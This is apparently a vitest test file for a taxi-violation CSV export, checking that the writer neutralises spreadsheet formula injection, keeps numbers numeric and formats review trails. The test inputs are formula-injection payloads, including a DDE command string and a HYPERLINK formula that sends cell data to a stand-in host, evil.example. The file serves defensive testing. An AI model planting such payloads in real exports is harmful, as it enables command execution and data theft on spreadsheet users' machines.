import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { measuredColumns, violationsCsvHeader, violationsCsvRows } from '../src/violations/violation-csv.js';
import type { ViolationRow } from '../src/violations/violation-store.js';
import { api, nextPlate, startTestSystem, type TestSystem } from './support.js';

/**
 * Issue 8 finding 7: CSV (formula) injection. A text cell starting with `=`, `+`, `-`, `@`, a tab
 * or a CR is run by a spreadsheet; every one is prefixed with a single quote. Numbers stay numbers
 * (a latitude of -15.79 is not a formula, and must still sum in the spreadsheet).
 */

/** The violation's own columns; the measured values' columns follow, one per key the rows carry. */
const HEADER =
  'id,ruleId,pack,legalBasis,description,vehicleId,plate,operatorId,driverId,startedAt,endedAt,timeZone,startedAtLocal,endedAtLocal,lat,lon,place,confidence,penaltyGroup,penaltyUnits,penaltyUnit,amountBrl,recidivismCount,status,lastDecision,lastReviewer,lastReviewedAtLocal,reviewTrail,measured';

function row(over: Partial<Record<string, unknown>>): ViolationRow {
  return {
    id: 'vio_1',
    ruleId: 'DF_X',
    pack: 'df-taxi',
    legalBasis: ['Art. 1'],
    description: 'Something',
    vehicleId: 'veh-1',
    plate: 'ABC1D23',
    operatorId: 'op-1',
    driverId: null,
    startedAt: new Date('2026-11-30T12:00:00Z'),
    endedAt: null,
    lat: -15.79,
    lon: -47.88,
    place: null,
    confidence: 'confirmed',
    penalty: { group: 'B', units: 3, unit: 'UPDF', amountBrl: 12.5 },
    recidivism: { count: 0 },
    status: 'open',
    measured: {},
    ...over,
  } as ViolationRow;
}

const cells = (csv: string) => parse(csv, { columns: true, relax_quotes: false }) as Record<string, string>[];

describe('violation CSV writer', () => {
  it('keeps the header', () => {
    expect(violationsCsvHeader()).toBe(`${HEADER}\r\n`);
  });

  it('neutralises every text cell that starts with = + - @ tab or CR, whatever the column', () => {
    const attacks = [
      '=HYPERLINK("http://x","y")',
      '+1+1',
      "-2+3+cmd|' /C calc'!A0",
      '@SUM(A1)',
      '\t=1+1',
      '\r=1+1',
      '-15.79',
    ];
    for (const attack of attacks) {
      for (const column of ['vehicleId', 'operatorId', 'driverId', 'description', 'plate']) {
        const [parsed] = cells(violationsCsvHeader() + violationsCsvRows([row({ [column]: attack })]));
        expect(parsed?.[column], `${column} = ${JSON.stringify(attack)}`).toBe(`'${attack}`);
      }
      const [place] = cells(violationsCsvHeader() + violationsCsvRows([row({ place: { name: attack } })]));
      expect(place?.place).toBe(`'${attack}`);
    }
  });

  it('leaves numbers as numbers (negative coordinates and amounts), and plain text alone', () => {
    const csv = violationsCsvRows([row({ lat: -1.4558, lon: -48.5044, penalty: { amountBrl: -3.5, units: -1 } })]);
    expect(csv).toContain(',-1.4558,-48.5044,');
    expect(csv).toContain(',-3.5,');
    const [parsed] = cells(violationsCsvHeader() + csv);
    expect(parsed).toMatchObject({ lat: '-1.4558', lon: '-48.5044', amountBrl: '-3.5', penaltyUnits: '-1' });
    expect(parsed).toMatchObject({ vehicleId: 'veh-1', startedAt: '2026-11-30T12:00:00.000Z', endedAt: '' });
  });

  it('quotes a line break or a quote inside a cell, so a cell never starts a new row', () => {
    const csv = violationsCsvRows([row({ description: 'a\nb', driverId: 'x\ry', operatorId: 'say "hi", ok' })]);
    const parsed = cells(violationsCsvHeader() + csv);
    expect(parsed).toHaveLength(1);
    expect(parsed[0]).toMatchObject({ description: 'a\nb', driverId: 'x\ry', operatorId: 'say "hi", ok' });
  });
});

describe('violation CSV: local times, review trail, measured values as columns', () => {
  const reviews = [
    {
      decision: 'dismiss' as const,
      reason: 'Contagem duvidosa',
      reviewer: 'u-1',
      reviewerName: 'Edson Prado',
      fromStatus: 'open',
      toStatus: 'dismissed',
      at: new Date('2026-11-30T15:00:00Z'),
    },
    {
      decision: 'reopen' as const,
      reason: 'Vídeo da garagem',
      reviewer: 'admin',
      reviewerName: null,
      fromStatus: 'dismissed',
      toStatus: 'open',
      at: new Date('2026-11-30T16:30:00Z'),
    },
  ];
  const rows = [
    row({ id: 'vio_df', measured: { distanceToStopM: 12.5, dwellSeconds: 40 } }),
    row({
      id: 'vio_bel',
      pack: 'belem-taxi',
      startedAt: new Date('2026-11-30T12:00:00Z'),
      endedAt: new Date('2026-11-30T12:05:00Z'),
      measured: { dwellSeconds: 70, queueSnapshot: [{ vehicleId: 'v-9' }], fareCents: 1200, meterFareCents: 1300 },
    }),
  ];
  const measured = measuredColumns(rows);
  const parsed = cells(
    violationsCsvHeader(measured) + violationsCsvRows(rows, new Map([['vio_df', reviews]]), measured),
  );

  it('writes start and end on the wall clock of the pack’s legal zone, the zone in a column', () => {
    expect(parsed[0]).toMatchObject({
      timeZone: 'America/Sao_Paulo',
      startedAt: '2026-11-30T12:00:00.000Z',
      startedAtLocal: '30/11/2026 09:00:00 (UTC-03:00)',
      endedAtLocal: '',
    });
    expect(parsed[1]).toMatchObject({ timeZone: 'America/Belem', endedAtLocal: '30/11/2026 09:05:00 (UTC-03:00)' });
  });

  it('writes the review trail, one decision a line with the reviewer by name, and the last decision in columns', () => {
    expect(parsed[0]?.reviewTrail?.split('\n')).toEqual([
      '30/11/2026 12:00:00 (UTC-03:00) — Descartada — Edson Prado — Contagem duvidosa',
      '30/11/2026 13:30:00 (UTC-03:00) — Reaberta — Administrador do sistema — Vídeo da garagem',
    ]);
    expect(parsed[0]).toMatchObject({
      lastDecision: 'reopen',
      lastReviewer: 'Administrador do sistema',
      lastReviewedAtLocal: '30/11/2026 13:30:00 (UTC-03:00)',
    });
    expect(parsed[1]).toMatchObject({ lastDecision: '', lastReviewer: '', reviewTrail: '' });
  });

  it('writes one column per measured key, headed in Portuguese from the rules’ catalogue', () => {
    expect(measured.map((m) => m.header)).toEqual([
      'Distância à parada (m)',
      'Tempo parado (s)',
      'Fila no momento',
      'Valor no taxímetro (centavos) [fareCents]',
      'Valor no taxímetro (centavos) [meterFareCents]',
    ]);
    expect(parsed[0]).toMatchObject({
      'Distância à parada (m)': '12.5',
      'Tempo parado (s)': '40',
      'Fila no momento': '',
    });
    expect(parsed[1]).toMatchObject({
      'Distância à parada (m)': '',
      'Tempo parado (s)': '70',
      'Fila no momento': '[{"vehicleId":"v-9"}]',
      'Valor no taxímetro (centavos) [meterFareCents]': '1300',
    });
    // A key the catalogue lacks is headed by itself, with the unit its suffix names.
    expect(measuredColumns([row({ measured: { someNewGapS: 3 } })]).map((m) => m.header)).toEqual(['someNewGapS (s)']);
  });
});

describe('GET /v1/violations/export.csv', () => {
  let sys: TestSystem;
  const run = Math.random().toString(36).slice(2, 7);
  const vehicleId = `-1-2-${run}`;
  const radioName = '=HYPERLINK("http://evil.example/?"&A1,"Rádio")';

  beforeAll(async () => {
    sys = await startTestSystem('postgres');
    const since = new Date(Date.now() - 86_400_000).toISOString();
    const op = await api(sys, 'POST', '/v1/operators', {
      id: `radio-${run}`,
      name: radioName,
      pack: 'belem-taxi',
      kind: 'radio-operator',
      validFrom: since,
    });
    expect(op.status, JSON.stringify(op.body)).toBe(201);
    const v = await api(sys, 'POST', '/v1/vehicles', {
      id: vehicleId,
      plate: nextPlate(),
      pack: 'belem-taxi',
      serviceType: 'taxi',
      capacity: 4,
      validFrom: since,
    });
    expect(v.status, JSON.stringify(v.body)).toBe(201);
  });

  const exportCsv = async () => {
    const res = await fetch(`${sys.url}/v1/violations/export.csv?vehicleId=${encodeURIComponent(vehicleId)}`, {
      headers: { authorization: `Bearer ${sys.adminToken}` },
    });
    expect(res.status).toBe(200);
    return res.text();
  };
  afterAll(async () => {
    await sys?.stop();
  });

  it('writes the attacker-chosen texts neutralised and the coordinates as numbers', async () => {
    // An undeclared vehicle dispatched by a radio operator: a BEL_UNAUTHORIZED_RADIO violation
    // whose place is the radio operator (its name, once the rules have loaded the new operator)
    // and whose position is Belém's (negative).
    let text = '';
    const named = (csv: string) => cells(csv).find((r) => r.place === `'${radioName}`);
    for (let i = 0; i < 30 && !named(text); i++) {
      const d = await api(sys, 'POST', '/v1/dispatches', {
        id: `d${i}-${run}`,
        ts: new Date().toISOString(),
        radioOperatorId: `radio-${run}`,
        vehicleId,
        lat: -1.4558,
        lon: -48.5044,
        tripId: '+cmd',
      });
      expect(d.status, JSON.stringify(d.body)).toBe(200);
      text = await exportCsv();
      if (!named(text)) await new Promise((r) => setTimeout(r, 200));
    }
    expect(text.startsWith(`${HEADER},`)).toBe(true);
    const violation = named(text);
    expect(violation).toMatchObject({
      ruleId: 'BEL_UNAUTHORIZED_RADIO',
      vehicleId: `'${vehicleId}`,
      place: `'${radioName}`,
      lat: '-1.4558',
      lon: '-48.5044',
    });
    // No cell of the file starts a formula.
    for (const record of parse(text, { relax_quotes: false }) as string[][]) {
      for (const cell of record) {
        if (/^-?\d+(\.\d+)?$/.test(cell)) continue;
        expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
  });
});
